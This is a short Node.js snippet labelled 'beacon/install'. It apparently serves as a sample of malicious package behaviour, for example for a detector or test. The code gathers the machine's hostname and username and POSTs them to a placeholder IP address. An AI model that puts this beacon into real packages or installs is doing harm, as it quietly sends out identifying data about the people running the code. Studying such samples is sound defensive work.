// behavior: beacon/install
const os = require("os");
const http = require("http");
const facts = JSON.stringify({ host: os.hostname(), user: os.userInfo().username });
const request = http.request({ hostname: "192.0.2.61", path: "/hello", method: "POST" });
request.write(facts);
request.end();
